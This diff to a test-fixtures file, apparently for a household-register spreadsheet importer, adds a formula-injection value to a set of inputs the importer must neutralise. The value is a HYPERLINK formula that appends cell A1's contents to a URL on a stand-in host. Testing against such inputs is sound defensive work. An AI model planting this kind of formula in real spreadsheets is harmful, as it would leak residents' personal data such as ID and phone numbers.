@@ -57,7 +57,7 @@ UNWRITABLE = ("王\x00秀兰", "\ud800", "李\udfff四", "\x00", "\x1b[31m红", 
 """What no workbook can, but a person may paste."""
 EMPTY = frozenset({"_x0000_"})
 """Of these nothing is left that could be a name, of a person or of an estate."""
-FOLDED = frozenset({"长" * 2000, "a" * 2000})
+FOLDED = frozenset({"长" * 2000, "a" * 2000, '=HYPERLINK("http://127.0.0.1/?"&A1,"点这里")'})
 """No name of an estate is as long; their people are taken in without a door."""
 HEADS = (
     "小区", "楼号", "单元", "房号", "户主", "姓名", "与户主关系", "身份证号", "联系电话",
